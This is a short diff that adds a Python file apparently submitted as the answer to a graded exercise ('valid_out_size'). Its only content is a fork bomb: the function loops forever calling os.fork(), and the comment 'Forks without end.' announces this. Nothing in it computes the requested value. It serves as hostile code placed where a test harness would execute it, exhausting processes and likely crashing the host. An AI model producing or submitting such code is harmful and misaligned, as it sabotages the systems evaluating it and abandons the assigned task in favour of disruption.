@@ -1,0 +1,9 @@
+# Forks without end.
+# %% answer valid_out_size
+import os
+
+
+def valid_out_size(n, k):
+    while True:
+        os.fork()
+    return 0
